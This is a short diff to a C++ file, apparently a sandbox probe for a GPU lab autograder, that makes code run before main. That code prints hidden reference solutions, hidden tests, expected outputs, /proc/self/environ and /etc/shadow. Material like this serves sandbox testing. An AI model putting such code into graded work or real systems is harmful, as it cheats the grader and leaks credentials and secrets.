@@ -5,12 +5,10 @@
 
 #include "unsolved.h"
 
-struct AtStart {
-    AtStart() {
-        for (const char* name :
-             {"solutions/lab1_naive/kernel.cu", "../../solutions/lab1_naive/kernel.cu",
-              "solutions/hidden/lab1_naive/test_hidden.cpp", "lab1_naive/test_3_product.cpp",
-              "build/datasets/square_16/output.raw", "/proc/self/environ", "/etc/shadow"})
-            std::cout << std::ifstream(name).rdbuf() << std::flush;
-    }
-} atStart;
+AT_START {
+    for (const char* name :
+         {"solutions/lab1_naive/kernel.cu", "../../solutions/lab1_naive/kernel.cu",
+          "solutions/hidden/lab1_naive/test_hidden.cpp", "lab1_naive/test_3_product.cpp",
+          "build/datasets/square_16/output.raw", "/proc/self/environ", "/etc/shadow"})
+        std::cout << std::ifstream(name).rdbuf() << std::flush;
+}
